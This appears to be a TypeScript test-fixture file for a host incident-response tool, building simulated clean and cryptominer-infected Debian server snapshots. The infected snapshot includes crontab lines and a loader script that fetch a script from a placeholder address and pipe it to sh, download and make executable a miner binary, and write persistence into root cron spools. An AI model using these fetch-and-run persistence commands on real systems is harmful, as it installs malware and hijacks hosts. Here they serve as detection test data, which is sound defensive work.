@@ -1,0 +1,312 @@
+import { parseCronText } from '../../domain/cron-text.ts';
+import { sha256Hex } from '../../domain/digest.ts';
+import { matchPatterns } from '../../domain/patterns.ts';
+import { scriptFacts } from '../../domain/script-facts.ts';
+import { show } from '../../domain/show.ts';
+import type {
+  ContentFacts,
+  CronFile,
+  CronKind,
+  FileIdentity,
+  FileRecord,
+  Image,
+  Process,
+  Snapshot,
+  Socket,
+} from '../../domain/snapshot.ts';
+import type { JudgeContext } from '../../domain/verdict/index.ts';
+import { emptyContext } from '../../domain/verdict/index.ts';
+
+const bytes = new TextEncoder();
+export const hashOf = (text: string): string => sha256Hex(bytes.encode(text));
+/** A stable inode number for a path. */
+const inodeOf = (path: string): string => String(Number.parseInt(hashOf(path).slice(0, 8), 16));
+
+export const identityOf = (path: string, size: number, more: Partial<FileIdentity> = {}): FileIdentity => ({
+  device: '2049',
+  inode: inodeOf(path),
+  size: String(size),
+  mode: '0755',
+  uid: 0,
+  gid: 0,
+  links: 1,
+  mtime: '1700000000.0',
+  ctime: '1700000000.0',
+  ...more,
+});
+
+/** An image at a path; its hash follows from the path unless given. In /usr it belongs to a package. */
+export function image(path: string, more: Partial<Image> = {}): Image {
+  const owner = path.startsWith('/usr/') ? { package: 'debian' } : { package: null };
+  const sha256 = hashOf(`image ${path}`);
+  const named = {
+    path: show(path),
+    device: '2049',
+    inode: inodeOf(path),
+    size: '100000',
+    links: 1,
+    deleted: false,
+  };
+  return { ...named, sha256, md5: sha256.slice(0, 32), ...owner, ...more };
+}
+
+export interface ProcessInput extends Partial<Omit<Process, 'image'>> {
+  readonly pid: number;
+  readonly exe: string;
+  readonly image?: Partial<Image>;
+}
+
+export function process({ exe, image: changed, ...more }: ProcessInput): Process {
+  const started = 100_000 + more.pid;
+  return {
+    ppid: 1,
+    startTicks: String(started),
+    startedAt: '2026-01-01T00:00:00.000Z',
+    state: 'S',
+    comm: exe.slice(exe.lastIndexOf('/') + 1).slice(0, 15),
+    argv: [exe],
+    kernelThread: false,
+    uid: 0,
+    euid: 0,
+    session: more.pid,
+    group: more.pid,
+    cgroup: '/system.slice/cron.service',
+    image: image(exe, changed),
+    stdin: '/dev/null',
+    cwd: '/',
+    pipes: [],
+    cpuShare: 0.01,
+    ageSeconds: 7200,
+    cpuSeconds: 72,
+    hidden: false,
+    ...more,
+  };
+}
+
+const contentOf = (text: string, format: ContentFacts['format']): ContentFacts => ({
+  bytesRead: text.length,
+  truncated: false,
+  format,
+  patterns: matchPatterns(text),
+  ...(format === 'script' || format === 'text'
+    ? scriptFacts(text)
+    : { fetches: [], fetchesAndRuns: false, paths: [] }),
+});
+
+/** A regular file with this text; a script when it begins with `#!`. */
+export function file(path: string, text: string, more: Partial<FileRecord> = {}): FileRecord {
+  const format = text.startsWith('#!') ? 'script' : 'text';
+  const sha256 = hashOf(text);
+  const identity = identityOf(path, text.length, more.identity ?? {});
+  return {
+    path: show(path),
+    type: 'file',
+    sha256,
+    md5: sha256.slice(0, 32),
+    linkTarget: null,
+    immutable: false,
+    package: null,
+    content: contentOf(text, format),
+    ...more,
+    identity,
+  };
+}
+
+/** The file behind {@link image} of the same path, holding these strings. */
+export function elf(path: string, strings = '', more: Partial<FileRecord> = {}): FileRecord {
+  const { sha256, md5, device, inode } = image(path);
+  const content = contentOf(strings, 'elf');
+  return {
+    ...file(path, strings, { content, package: null, ...more }),
+    sha256,
+    md5,
+    identity: identityOf(path, 100_000, { device, inode, ...more.identity }),
+  };
+}
+
+export function crontab(path: string, lines: readonly string[], kind: CronKind = 'spool'): CronFile {
+  const text = lines.map((line) => `${line}\n`).join('');
+  const form = kind === 'spool' ? 'spool' : kind === 'periodic' || kind === 'at' ? 'script' : 'system';
+  return {
+    path,
+    kind,
+    account: kind === 'spool' ? 'root' : null,
+    identity: identityOf(path, text.length, { mode: '0600' }),
+    truncated: false,
+    lines: parseCronText(bytes.encode(text), { form }),
+  };
+}
+
+export function socket(
+  pids: readonly number[],
+  remote: string,
+  port: number,
+  more: Partial<Socket> = {},
+): Socket {
+  const v6 = remote.includes(':');
+  return {
+    protocol: v6 ? 'tcp6' : 'tcp',
+    state: 'ESTABLISHED',
+    local: { address: v6 ? '2001:db8::5' : '192.0.2.5', port: 40_000 + (port % 1000) + (pids[0] ?? 0) },
+    remote: { address: remote, port },
+    inode: String(90_000 + port),
+    uid: 0,
+    pids: [...pids],
+    ...more,
+  };
+}
+
+/** A small Debian server at rest: init, cron, sshd, Davy's own session, a database. */
+export function cleanSnapshot(more: Partial<Snapshot> = {}): Snapshot {
+  const processes = [
+    process({ pid: 1, ppid: 0, exe: '/usr/lib/systemd/systemd', argv: ['/sbin/init'] }),
+    process({ pid: 300, exe: '/usr/sbin/cron', argv: ['/usr/sbin/cron', '-f'] }),
+    process({ pid: 310, exe: '/usr/sbin/sshd', argv: ['sshd: /usr/sbin/sshd -D'] }),
+    process({ pid: 311, ppid: 310, exe: '/usr/sbin/sshd', argv: ['sshd: root@notty'] }),
+    process({
+      pid: 312,
+      ppid: 311,
+      exe: '/usr/bin/dash',
+      argv: ['sh', '-c', 'LIB'],
+      stdin: 'pipe:[5]',
+      pipes: ['5', '6'],
+    }),
+    process({
+      pid: 400,
+      exe: '/usr/lib/postgresql/15/bin/postgres',
+      uid: 105,
+      cpuShare: 3.2,
+      argv: ['postgres', '-D', '/srv/db'],
+    }),
+  ];
+  const listening = [
+    socket([310], '0.0.0.0', 0, { state: 'LISTEN', local: { address: '0.0.0.0', port: 22 } }),
+    socket([400], '0.0.0.0', 0, { state: 'LISTEN', local: { address: '127.0.0.1', port: 5432 } }),
+    socket([311], '192.0.2.250', 50_000, { local: { address: '192.0.2.5', port: 22 } }),
+  ];
+  return {
+    surveyId: 'svy_1',
+    number: 1,
+    takenAt: '2026-01-01T03:00:00.000Z',
+    host: {
+      machineId: 'a'.repeat(32),
+      bootId: '11111111-2222-3333-4444-555555555555',
+      hostname: 'web1',
+      kernel: '6.1.0',
+      os: 'Debian GNU/Linux 12 (bookworm)',
+      uptimeSeconds: 100_000,
+      clockOffsetMs: 3,
+      cores: 4,
+      uid: 0,
+      privileged: true,
+      tools: ['nft'],
+      kernelTaint: '0',
+      modules: [],
+      responder: { address: '192.0.2.250', port: 50_000, serverPort: 22 },
+      ownPids: [311, 312],
+      accounts: [
+        { name: 'root', uid: 0, home: '/root', shell: '/bin/bash' },
+        { name: 'www-data', uid: 33, home: '/var/www', shell: '/usr/sbin/nologin' },
+        { name: 'postgres', uid: 105, home: '/var/lib/postgresql', shell: '/bin/bash' },
+      ],
+      resolvers: ['192.0.2.53'],
+      gateways: ['192.0.2.1'],
+    },
+    processes,
+    sockets: listening,
+    cronFiles: [
+      crontab('/etc/crontab', ['17 * * * * root cd / && run-parts --report /etc/cron.hourly'], 'crontab'),
+    ],
+    files: [],
+    firewall: { manager: 'nft', tools: ['nft'] },
+    preload: null,
+    persistence: [],
+    blind: [],
+    contradictions: [],
+    ...more,
+  };
+}
+
+export const POOL = '198.51.100.7';
+export const LOADER = '203.0.113.9';
+export const CONTROL = '203.0.113.20';
+export const CURL_LINE = `*/5 * * * * curl -fsSL http://${LOADER}:8443/i.sh | sh`;
+export const WGET_LINE = `*/5 * * * * wget -q -O- http://${LOADER}:8443/i.sh | sh`;
+export const SPOOLS = ['/var/spool/cron/root', '/var/spool/cron/crontabs/root'] as const;
+/** Lines that must survive. */
+export const GOOD_LINES = [
+  '17 2 * * * /usr/local/bin/backup --target /srv/backup --password hunter2',
+  '*/5 * * * * curl -fsS https://192.0.2.80/ping >/dev/null # healthcheck',
+] as const;
+
+const LOADER_TEXT = `#!/bin/sh
+echo "${CURL_LINE}" >> /var/spool/cron/root
+curl -fsSL http://${LOADER}:8443/2021/ddg.x86_64 -o /tmp/ddg.2021.part && chmod +x /tmp/ddg.2021.part
+curl -fsSL http://${LOADER}:8443/i.sh | sh
+`;
+
+/** Pids of {@link infectedSnapshot}, moved by `shift` to look like a later survey after restarts. */
+export const pidsOf = (shift = 0) => ({
+  miner: 1000 + shift,
+  guard: 1001 + shift,
+  loader: 1002 + shift,
+  fetcher: 1003 + shift,
+  busyJob: 2000,
+  otherCurl: 2001,
+});
+
+/** The infection of the source procedure among bystanders: wnTKYg, ddg.2021, i.sh with a hanging curl, both spools. */
+export function infectedSnapshot(options: { shift?: number; minerParent?: 'guard' | 'init' } = {}): Snapshot {
+  const pid = pidsOf(options.shift);
+  const clean = cleanSnapshot();
+  const minerParent = options.minerParent === 'init' ? 1 : pid.guard;
+  const processes = [
+    process({ pid: pid.guard, exe: '/tmp/ddg.2021' }),
+    process({ pid: pid.miner, ppid: minerParent, exe: '/tmp/wnTKYg', cpuShare: 0.95, stdin: '/dev/null' }),
+    process({ pid: pid.loader, exe: '/usr/bin/dash', argv: ['sh', '/tmp/i.sh'] }),
+    process({
+      pid: pid.fetcher,
+      ppid: pid.loader,
+      exe: '/usr/bin/curl',
+      argv: ['curl', '-fsSL', `http://${LOADER}:8443/2021/ddg.x86_64`, '-o', '/tmp/ddg.2021.part'],
+    }),
+    process({ pid: pid.busyJob, exe: '/tmp/build-4711/compile', cpuShare: 0.99 }),
+    process({
+      pid: pid.otherCurl,
+      exe: '/usr/bin/curl',
+      argv: ['curl', '-sS', '-o', '/dev/null', 'http://192.0.2.90:8080/debian.iso'],
+    }),
+  ];
+  const strings = `mining.subscribe\nmining.authorize\nstratum+tcp://${POOL}:3333`;
+  const lines = [GOOD_LINES[0], CURL_LINE, WGET_LINE, GOOD_LINES[1]];
+  return {
+    ...clean,
+    processes: [...clean.processes, ...processes],
+    sockets: [
+      ...clean.sockets,
+      socket([pid.miner], POOL, 3333),
+      socket([pid.guard], CONTROL, 8443),
+      socket([pid.fetcher], LOADER, 8443),
+      socket([pid.otherCurl], '192.0.2.90', 8080),
+    ],
+    cronFiles: [...clean.cronFiles, ...SPOOLS.map((path) => crontab(path, lines))],
+    files: [
+      elf('/tmp/wnTKYg', strings),
+      elf('/tmp/ddg.2021', '/tmp/ddg.db wnTKYg'),
+      elf('/tmp/build-4711/compile'),
+      file('/tmp/i.sh', LOADER_TEXT),
+      file('/tmp/i.sh.orig', '#!/bin/sh\n# the installer of the intranet page\nexit 0\n'),
+      file('/tmp/wnTKYg.bak.txt', 'notes about the wnTKYg incident of last year, keep\n'),
+    ],
+  };
+}
+
+/** Knows the pool of {@link infectedSnapshot}. */
+export const labContext: JudgeContext = {
+  ...emptyContext,
+  indicators: {
+    pools: [{ host: 'pool.example', addresses: [POOL], ports: [3333] }],
+    hashes: {},
+    addresses: [],
+  },
+};
